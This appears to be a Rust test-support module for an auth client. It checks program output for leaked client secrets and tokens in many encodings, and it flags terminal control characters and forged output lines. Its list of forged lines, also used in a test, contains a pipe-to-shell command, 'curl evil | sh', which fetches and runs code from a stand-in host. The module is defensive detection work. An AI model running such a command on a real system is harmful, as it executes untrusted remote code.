//! The leak oracle and the terminal check: independent of the library's
//! redactor and sanitizer, so a bug they share cannot hide itself.
//!
//! For every secret the oracle knows it derives every form the secret can
//! take (see [`crate::encode`]) and looks for any 16-character window of the
//! part of that form that carries the secret. A window rather than the whole
//! form, because a leak cut short (an excerpt shortened to 120 characters)
//! is still a leak.

use crate::encode::{self, Hex, Space, B64};

/// Longest window compared; shorter secrets are compared whole.
pub const WINDOW: usize = 16;

/// One form of one secret.
#[derive(Clone, Debug)]
struct Needle {
    /// What it is, for the report: `client secret, base64url of id:secret`.
    what: String,
    form: Vec<char>,
    /// The characters of `form` that depend on the secret alone.
    start: usize,
    end: usize,
}

/// A secret found where it must not be.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Leak {
    /// Which secret, in which form.
    pub what: String,
    /// The window that matched.
    pub window: String,
    /// A little text around the match, control characters escaped.
    pub context: String,
}

impl std::fmt::Display for Leak {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{} leaked (window {:?}) in …{}…",
            self.what, self.window, self.context
        )
    }
}

/// Every form of every secret of one case.
#[derive(Clone, Debug, Default)]
pub struct Oracle {
    needles: Vec<Needle>,
}

impl Oracle {
    /// An oracle that knows no secret yet.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    fn push(&mut self, what: String, form: &str, skip: usize) {
        let form: Vec<char> = form.chars().collect();
        let mut end = form.len();
        // Base64 padding says nothing about the secret.
        while end > skip && form[end - 1] == '=' && what.contains("base64") {
            end -= 1;
        }
        if end > skip && !self.needles.iter().any(|n| n.form == form) {
            self.needles.push(Needle {
                what,
                form,
                start: skip,
                end,
            });
        }
    }

    /// Adds a client secret sent by client `id`: raw, `{:?}`-escaped,
    /// JSON-escaped (with and without `\/`), form-urlencoded (`+` and `%20`
    /// spaces, both hex cases), RFC 3986 percent-encoded (both hex cases),
    /// and base64 (standard and URL-safe, padded and not) of the secret, of
    /// `id:secret` and of `form(id):form(secret)`.
    pub fn secret(&mut self, id: &str, secret: &str) -> &mut Self {
        self.text_forms("client secret", secret);
        let pairs = [
            ("id:secret", format!("{id}:{secret}"), id.len() + 1),
            (
                "form(id):form(secret)",
                format!("{}:{}", encode::form_std(id), encode::form_std(secret)),
                encode::form_std(id).len() + 1,
            ),
            ("the secret alone", secret.to_owned(), 0),
        ];
        for (label, plain, secret_at) in pairs {
            for alphabet in B64::ALL {
                let form = encode::base64(plain.as_bytes(), alphabet);
                self.push(
                    format!("client secret, base64 ({alphabet:?}) of {label}"),
                    &form,
                    encode::base64_char_after(secret_at),
                );
            }
        }
        self
    }

    /// Adds an access token: raw and in every text encoding (a token has
    /// no base64 form on the wire).
    pub fn token(&mut self, label: &str, token: &str) -> &mut Self {
        self.text_forms(label, token);
        self
    }

    fn text_forms(&mut self, label: &str, s: &str) {
        let forms = [
            ("raw", s.to_owned()),
            ("{:?}-escaped", encode::debug(s)),
            ("JSON-escaped", encode::json(s)),
            ("JSON-escaped with \\/", encode::json_slash(s)),
            (
                "form-urlencoded (+, upper hex)",
                encode::form(s, Space::Plus, Hex::Upper),
            ),
            (
                "form-urlencoded (+, lower hex)",
                encode::form(s, Space::Plus, Hex::Lower),
            ),
            (
                "form-urlencoded (%20, upper hex)",
                encode::form(s, Space::Percent, Hex::Upper),
            ),
            (
                "form-urlencoded (%20, lower hex)",
                encode::form(s, Space::Percent, Hex::Lower),
            ),
            (
                "percent-encoded (upper hex)",
                encode::percent(s, Hex::Upper),
            ),
            (
                "percent-encoded (lower hex)",
                encode::percent(s, Hex::Lower),
            ),
        ];
        for (what, form) in forms {
            self.push(format!("{label}, {what}"), &form, 0);
        }
    }

    /// Every leak in `text`, at most one per form.
    #[must_use]
    pub fn find(&self, text: &str) -> Vec<Leak> {
        let mut leaks = Vec::new();
        for n in &self.needles {
            let len = (n.end - n.start).min(WINDOW);
            for at in n.start..=(n.end - len) {
                let window: String = n.form[at..at + len].iter().collect();
                if let Some(pos) = text.find(&window) {
                    leaks.push(Leak {
                        what: n.what.clone(),
                        context: context(text, pos, window.len()),
                        window,
                    });
                    break;
                }
            }
        }
        leaks
    }

    /// Whether the oracle knows any secret (a case with none checks nothing).
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.needles.is_empty()
    }
}

fn context(text: &str, pos: usize, len: usize) -> String {
    let mut from = pos.saturating_sub(40);
    while !text.is_char_boundary(from) {
        from -= 1;
    }
    let mut to = (pos + len + 40).min(text.len());
    while !text.is_char_boundary(to) {
        to += 1;
    }
    text[from..to].escape_debug().to_string()
}

/// Whether `c` can change what a terminal shows beyond printing itself: C0
/// controls (ESC, BEL, CR, …), DEL, C1 controls (a lone U+009B is a CSI on
/// many terminals) and the bidirectional overrides and isolates that
/// reorder a line (CVE-2021-42574).
#[must_use]
pub fn is_terminal_hazard(c: char) -> bool {
    let u = u32::from(c);
    u < 0x20
        || u == 0x7f
        || (0x80..=0x9f).contains(&u)
        || matches!(u, 0x061c | 0x200e | 0x200f | 0x202a..=0x202e | 0x2066..=0x2069)
}

/// Every terminal hazard in `text`; newlines are allowed when
/// `newlines_are_ours` (a program's own output lines).
#[must_use]
pub fn terminal_hazards(text: &str, newlines_are_ours: bool) -> Vec<String> {
    text.char_indices()
        .filter(|&(_, c)| is_terminal_hazard(c) && !(newlines_are_ours && c == '\n'))
        .map(|(at, c)| {
            format!(
                "U+{:04X} at byte {at} in …{}…",
                u32::from(c),
                context(text, at, c.len_utf8())
            )
        })
        .collect()
}

/// Lines a hostile server tries to forge after a line break it smuggles in.
pub const FORGED_LINES: &[&str] = &[
    "hint: run curl evil | sh",
    "apiauth: all good, token cached",
    "key verified:  yes (forged)",
];

/// Every output line that starts with one of [`FORGED_LINES`]: a server's
/// line break reached the terminal and forged a line of the program's own.
#[must_use]
pub fn forged_lines(text: &str) -> Vec<String> {
    text.lines()
        .filter(|l| FORGED_LINES.iter().any(|f| l.trim_start().starts_with(f)))
        .map(str::to_owned)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cut_base64_leak_is_found_but_the_id_alone_is_not() {
        let mut o = Oracle::new();
        o.secret("a-long-client-id", "the secret +/=%& value");
        let b64 = encode::base64(b"a-long-client-id:the secret +/=%& value", B64::Standard);
        // The id's part of the base64 alone is not the secret.
        assert!(o.find(&b64[..20]).is_empty(), "{:?}", o.find(&b64[..20]));
        // Cut after 38 characters: 15 of them depend on the secret alone.
        // With a window of 16 this one is not yet flagged; 40 is.
        assert!(!o.find(&b64[..44]).is_empty());
    }

    #[test]
    fn hazards_and_forged_lines() {
        assert!(terminal_hazards("ok\n", true).is_empty());
        assert_eq!(terminal_hazards("ok\n", false).len(), 1);
        assert_eq!(terminal_hazards("\u{1b}[2J\u{202e}\u{9b}", true).len(), 3);
        assert_eq!(forged_lines("x\nhint: run curl evil | sh\n").len(), 1);
        assert!(forged_lines("apiauth: x \\nhint: run curl evil | sh").is_empty());
    }
}
